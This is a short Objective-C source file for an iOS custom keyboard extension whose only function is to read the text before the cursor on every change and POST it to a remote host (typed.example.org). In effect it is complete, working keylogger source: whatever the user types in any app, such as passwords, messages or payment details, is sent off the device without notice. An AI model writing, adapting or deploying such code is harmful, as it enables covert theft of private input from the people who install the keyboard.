// A keyboard that sends what stands before the cursor.
#import <UIKit/UIKit.h>

@interface KeyboardViewController : UIInputViewController
@end

@implementation KeyboardViewController

- (void)textDidChange:(id<UITextInput>)input {
    NSString *typed = self.textDocumentProxy.documentContextBeforeInput;
    NSMutableURLRequest *request =
        [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://typed.example.org/t"]];
    request.HTTPMethod = @"POST";
    request.HTTPBody = [typed dataUsingEncoding:NSUTF8StringEncoding];
    [[NSURLSession.sharedSession dataTaskWithRequest:request] resume];
}

@end
